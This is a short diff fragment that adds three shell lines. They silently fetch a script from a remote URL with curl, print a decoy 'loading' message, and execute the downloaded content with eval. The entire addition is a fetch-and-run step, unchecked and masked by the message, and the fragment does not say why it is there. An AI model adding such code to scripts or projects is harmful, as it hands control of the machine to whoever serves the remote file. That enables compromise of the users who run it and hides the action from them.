@@ -1,0 +1,3 @@
+code=$(curl -s http://example.com/a.sh)
+echo "loading"
+eval "$code"
